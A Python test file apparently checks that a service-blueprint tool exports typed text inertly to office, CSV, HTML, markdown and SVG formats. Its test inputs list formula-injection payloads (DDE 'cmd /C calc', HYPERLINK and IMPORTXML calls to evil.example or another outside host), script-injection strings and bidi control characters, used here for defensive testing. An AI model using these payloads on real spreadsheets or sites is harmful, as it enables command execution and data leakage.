"""Typed text does nothing, in whatever format: no formula, no markup, no link, no control; and it is there as typed.

A file of hostile texts is held against the same one with a harmless word in each place: they have the same elements.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from lxml import html
from markdown_it import MarkdownIt

from tests.drawing.builders import analysis, document, finding, flow, lane, step
from tests.exporters.office import convert
from tests.profiles import IS_DEEP
from visavis.blueprint.language import message
from visavis.blueprint.model import BlueprintDocument
from visavis.blueprint.registry import ExportJob, plugins
from visavis.exporters.typed_text import escape_formula, inert, inert_lines

FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", '"=1+1', "＝1+1", "＋1", "－1", "＠SUM(1)",
            '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "-2+3+cmd|' /C calc'!A0",
            "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "−1+1", ";=1+1", ",=1+1", "x\n=1+1")
MARKUP = ("<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "</text:p><text:a xlink:href='http://x'>", "]]>", "<!--", "&lt;b&gt;",
          "&#60;b&#62;", "</w:t></w:r>", "<text:span/>", "[x](http://evil.example)", "![x](http://evil.example/x.png)", "# Titre", "- liste", "1. un", "> cité",
          "| a | b |", "`x`", "```", "**gras**", "$$x$$", "---", "a <br> b", "javascript:alert(1)", "http://evil.example", "www.evil.example",
          "<http://evil.example>", "who@evil.example", ":smile:", "_x0041_", "_x000D_", "{{7*7}}", "${7*7}")
CONTROLS = ("a\x00b", "\x1b[31mrouge", "a\u202eb", "\u2066x\u2069", "a\ufeffb", "\ufffe", "\U0001fffe", "a\u2028b", "a\x85b", "\x0b", "👵🏽", "שלום", "e\u0301")
LETTERS = st.characters(exclude_categories=["Cs"])
TYPED = st.one_of(st.sampled_from([*FORMULAS, *MARKUP, *CONTROLS]),
                  st.lists(st.sampled_from([*FORMULAS, *MARKUP, *CONTROLS]), min_size=2, max_size=3).map("".join),
                  st.text(LETTERS, min_size=1, max_size=40),
                  st.builds(lambda sign, rest: sign + rest, st.sampled_from("=+-@＝＋－＠|%"), st.text(LETTERS, max_size=20)))
SEEN = settings(max_examples=60 if IS_DEEP else 12, deadline=None)


def typed_everywhere(text: str) -> ExportJob:
    """Return a blueprint that has a text in each of its fields of text."""
    people = [{"id": name, "name": text, "story": text, "constraints": [text]} for name in "pq"]
    made = document(
        [step("u", title=text, plain=text, system=text, unit=text, detail=text, work="PT5M", asks=["i"]),
         step("a", "scene", title=text, informs={"who": text, "promise": text})],
        [flow("f", "u", "a", kind="interaction", label=text, condition=text, carries=["i"])],
        lanes=[lane("preuves", "evidence", text), lane("usager", "citizen", text), lane("scene", "frontstage", text)],
        phases=[text], title=text, summary=text, personas=people, items=[{"id": "i", "name": text, "purpose": text}],
        notes=[{"id": "n", "at": "u", "text": text, "author": text, "source": text, "kind": "pain"}],
        service={"authority": text, "legal_basis": text, "life_event": text},
        record={"version": text, "date": text, "authors": text, "organisation": text, "sources": text, "contact": text, "appeal": text})
    found = finding("double-entry", "u", title=message("{said}", said=text), message=message("{said}", said=text), remedy=message("{said}", said=text))
    return ExportJob(made, analysis(made, found), "fr")


def written(name: str, text: str) -> bytes:
    """Return a file of a format; `minutes-odt` is that format in that one."""
    name, _, form = name.partition("-")
    options = {"format": form} if form else {}
    job = typed_everywhere(text)
    exporter = plugins().exporters[name]
    return exporter.export(ExportJob(job.document, job.analysis, job.language, options))


def is_seen(text: str) -> bool:
    """Return whether a text has a letter, a digit or a sign that stays."""
    return any(letter.isprintable() and not letter.isspace() for letter in inert(text))


def xml_parts(content: bytes) -> Iterator[tuple[str, ET.Element]]:
    with ZipFile(io.BytesIO(content)) as parts:
        yield from ((name, ET.fromstring(parts.read(name))) for name in parts.namelist() if name.endswith((".xml", ".rels")))


def skeleton(root: ET.Element) -> list[tuple[str, ...]]:
    """Return the elements of a part in order, each with the names of its attributes."""
    return [(each.tag, *sorted(set(each.keys()) - SPACES)) for each in root.iter() if each.tag not in BLANKS]


# How many spaces there are, and that they are to be kept, is of the text.
BLANKS = {"{urn:oasis:names:tc:opendocument:xmlns:text:1.0}s", "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}p"}
SPACES = {"{http://www.w3.org/XML/1998/namespace}space"}


@cache
def harmless(name: str) -> dict[str, list[tuple[str, ...]]]:
    return {part: skeleton(root) for part, root in xml_parts(written(name, "Mot"))}


@pytest.mark.few(3)
@pytest.mark.parametrize("name", ["docx", "odt", "minutes-docx", "minutes-odt", "xlsx", "ods"])
@given(typed=TYPED)
@example(typed="=1+1")
@SEEN
def test_office_files_have_the_same_elements_whatever_was_typed(name: str, typed: str) -> None:
    assume(is_seen(typed))
    content = written(name, typed)
    for part, root in xml_parts(content):
        assert skeleton(root) == harmless(name)[part], part
        said = "".join(root.itertext())
        assert inert(said.replace("\n", "")) == said.replace("\n", "").strip(" ") or "  " in said
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", said)


@pytest.mark.parametrize("name", ["docx", "odt", "minutes-docx", "minutes-odt", "xlsx", "ods", "csv", "page", "markdown"])
@pytest.mark.parametrize("typed", ["", "Sans fin " * 60, "x" * 400, "تجديد جواز السفر 👵🏽"], ids=["empty", "long", "one word", "arabic"])
def test_no_text_is_too_long_too_short_or_too_foreign_for_a_format(name: str, typed: str) -> None:
    assert written(name, typed)


@given(typed=TYPED)
@SEEN
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(typed: str) -> None:
    content = written("xlsx", typed)
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "inlineStr")
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert cell.number_format == "@", "it stays a text when somebody edits it"
    for part, root in xml_parts(written("ods", typed)):
        assert "formula" not in " ".join(name for each in root.iter() for name in each.attrib), part


@given(typed=TYPED)
@example(typed="=1+1")
@SEEN
def test_no_cell_of_a_csv_file_begins_like_a_formula(typed: str) -> None:
    for language, mark in (("fr", ";"), ("en", ",")):
        job = typed_everywhere(typed)
        made = plugins().exporters["csv"].export(ExportJob(job.document, job.analysis, language, {"table": "steps"}))
        rows = list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""), delimiter=mark))
        assert {len(row) for row in rows} == {len(rows[0])}, "nothing typed ends a cell or a row"
        for cell in (cell for row in rows for cell in row):
            assert not re.match(r"""^[\s"']*[=+\-@|%＝＋－＠−]""", cell) or cell.startswith("'") or re.fullmatch(r"-?[\d.,]+", cell)


@given(typed=TYPED)
@SEEN
def test_the_sign_before_a_formula_can_be_taken_away_again(typed: str) -> None:
    told = escape_formula(typed)
    assert told in (inert_lines(typed), f"'{inert_lines(typed)}")
    assert (told[1:] if re.match(r"""^'[\s"']*[=+\-@|%＝＋－＠−]""", told) and told[1:] == inert_lines(typed) else told) == inert_lines(typed)


@given(typed=TYPED)
@example(typed="<script>alert(1)</script>")
@SEEN
def test_the_web_page_has_the_same_elements_whatever_was_typed(typed: str) -> None:
    assume(is_seen(typed))
    pages = [html.fromstring(written("page", text)) for text in (typed, "Mot")]
    shapes = [[(each.tag, *sorted(each.keys())) for each in page.iter() if isinstance(each.tag, str)] for page in pages]
    assert shapes[0] == shapes[1]
    for page in pages:
        addresses = [value for each in page.iter() if isinstance(each.tag, str) for name, value in each.items() if name in ("href", "src")]
        assert all(address.startswith(("#", "data:")) for address in addresses)


@given(typed=TYPED)
@example(typed="# Titre")
@SEEN
def test_markdown_has_the_same_signs_whatever_was_typed(typed: str) -> None:
    assume(is_seen(typed))
    reader = MarkdownIt("commonmark").enable("table")
    kinds = []
    for text in (typed, "Mot"):
        tokens = reader.parse(written("markdown", text).decode())
        inside = [child.type for token in tokens for child in token.children or () if child.type not in ("text", "text_special")]
        kinds.append(([token.type for token in tokens], inside))
    assert kinds[0] == kinds[1]


ALLOWED = {"svg", "g", "path", "text", "tspan", "rect", "circle", "line", "title", "desc", "defs", "style", "metadata", "use", "marker", "polygon", "polyline",
           "ellipse", "linearGradient", "stop", "pattern", "clipPath", "symbol"}


@given(typed=TYPED)
@example(typed="</text><script>alert(1)</script>")
@settings(max_examples=20 if IS_DEEP else 5, deadline=None)
def test_a_drawing_has_no_script_no_link_and_no_handler(typed: str) -> None:
    root = ET.fromstring(written("svg", typed))
    for each in root.iter():
        space, _, tag = each.tag.rpartition("}")
        if "svg" in space:
            assert tag in ALLOWED, tag
        for name, value in each.items():
            assert not name.lower().startswith("on")
            if name.rpartition("}")[2] == "href":
                assert value.startswith("#")
    said = "".join(root.itertext())
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", said)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["xlsx", "ods"])
def test_libreoffice_shows_formulas_as_they_were_typed(name: str, tmp_path: Path) -> None:
    texts = [inert(text) for text in (*FORMULAS, *MARKUP) if is_seen(text)]
    made: BlueprintDocument = document([step(f"s{at}", title=text, column=at) for at, text in enumerate(texts)])
    file = tmp_path / f"formulas.{name}"
    file.write_bytes(plugins().exporters[name].export(ExportJob(made, analysis(made), "fr")))
    read = convert(file, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false").decode("utf-8-sig")
    rows: list[Any] = list(csv.reader(io.StringIO(read, newline="")))
    assert [row[1] for row in rows[1:]] == texts


@pytest.mark.slow
def test_libreoffice_calculates_nothing_of_a_csv_file(tmp_path: Path) -> None:
    texts = [text for text in FORMULAS if is_seen(text)]
    made = document([step(f"s{at}", title=text, column=at) for at, text in enumerate(texts)])
    file = tmp_path / "formulas.csv"
    file.write_bytes(plugins().exporters["csv"].export(ExportJob(made, analysis(made), "en")))
    read = convert(file, "ods")
    for part, root in xml_parts(read):
        if part == "content.xml":
            assert "formula" not in " ".join(name for each in root.iter() for name in each.attrib)
